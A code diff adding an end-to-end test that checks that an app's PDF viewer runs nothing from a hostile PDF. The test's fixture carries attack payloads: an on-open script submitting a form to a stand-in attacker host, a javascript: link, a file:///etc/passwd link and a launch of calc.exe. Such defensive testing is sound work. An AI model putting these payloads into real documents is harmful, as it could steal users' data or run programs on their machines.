@@ -1,7 +1,8 @@
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import { PDFDict, PDFDocument, PDFName } from 'pdf-lib';
+import crypto from 'node:crypto';
+import { PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { budiSignedIn, expectNoAxeViolations, shot, type AppRun } from '../helpers/harness';
@@ -245,6 +246,81 @@ describe('Informasi Polis → Dokumen Polis → the viewer, in Chromium', () => 
     expect(await page.locator('.pdfViewer .page').count()).toBe(0);
     await shot(page, 'id-96-viewer-broken-file');
     // Even a broken file leaves a way out.
+    await closeReader();
+  });
+
+  it('runs nothing a hostile PDF carries: no script, no launch, no link but https, and that one only through the main process', async () => {
+    // A PDF as an attacker would send it: JavaScript on open, a launch action, and links to
+    // javascript:, file: and https: addresses.
+    const hostile = await PDFDocument.create();
+    const font = await hostile.embedFont(StandardFonts.Helvetica);
+    const sheet = hostile.addPage([595, 842]);
+    const targets = [
+      { label: 'Tautan javascript', action: { S: 'URI', URI: PDFString.of("javascript:alert('pdf')") } },
+      { label: 'Tautan file', action: { S: 'URI', URI: PDFString.of('file:///etc/passwd') } },
+      { label: 'Jalankan program', action: { S: 'Launch', F: PDFString.of('calc.exe') } },
+      { label: 'Tautan https', action: { S: 'URI', URI: PDFString.of('https://contoh.example/bantuan') } },
+    ];
+    const annots = targets.map(({ label, action }, i) => {
+      const y = 700 - i * 80;
+      sheet.drawText(label, { x: 60, y: y + 10, size: 18, font });
+      return hostile.context.register(
+        hostile.context.obj({
+          Type: 'Annot',
+          Subtype: 'Link',
+          Rect: [50, y, 400, y + 40],
+          Border: [0, 0, 0],
+          A: action,
+        }),
+      );
+    });
+    sheet.node.set(PDFName.of('Annots'), hostile.context.obj(annots));
+    hostile.addJavaScript('onOpen', "app.alert('pdf script ran'); this.submitForm('https://penyerang.example/curi');");
+    const bytes = Buffer.from(await hostile.save());
+
+    const [doc] = await svc.service.store.db
+      .selectFrom('documents')
+      .selectAll()
+      .where('title', '=', 'Rincian Premi')
+      .where('policy_number', '=', 'IND2019000123')
+      .execute();
+    await svc.service.store.db
+      .updateTable('documents')
+      .set({ size_bytes: bytes.length, sha256: crypto.createHash('sha256').update(bytes).digest('hex'), page_count: 1 })
+      .where('id', '=', doc!.id)
+      .execute();
+    const { FolderDocumentStore } = await import('../../server/domain/documents/store');
+    await new FolderDocumentStore(`${svc.env.DATA_DIR}/documents`).put(doc!.storage_key, bytes);
+
+    const dialogs: string[] = [];
+    const requests: string[] = [];
+    const onDialog = (d: { message(): string; dismiss(): Promise<void> }) => {
+      dialogs.push(d.message());
+      void d.dismiss();
+    };
+    const onRequest = (r: { url(): string }) => requests.push(r.url());
+    page.on('dialog', onDialog);
+    page.on('request', onRequest);
+    try {
+      await openPolicy();
+      await page.goto(`${app.preview.url}#/polis/IND-2019-000123/dokumen/${doc!.id}`);
+      await expect.poll(() => page.getByTestId('page-of').textContent(), { timeout: 20_000 }).toBe('Halaman 1 dari 1');
+      const links = page.locator('.annotationLayer a');
+      await expect.poll(() => links.count()).toBeGreaterThan(0);
+      const where = page.url();
+      const openedBefore = app.opened.length;
+      for (let i = 0; i < (await links.count()); i++) await links.nth(i).click({ force: true });
+      // Every click has been handled once the https link reached the main process.
+      await expect.poll(() => app.opened.length).toBe(openedBefore + 1);
+      expect(app.opened.slice(openedBefore)).toEqual(['https://contoh.example/bantuan']);
+      expect(page.url()).toBe(where);
+      expect(dialogs).toEqual([]);
+      expect(requests.filter((u) => !u.startsWith(app.preview.url.split('?')[0]!.replace(/\/$/u, '')))).toEqual([]);
+      await shot(page, 'id-98-viewer-hostile-pdf');
+    } finally {
+      page.off('dialog', onDialog);
+      page.off('request', onRequest);
+    }
     await closeReader();
   });
 });
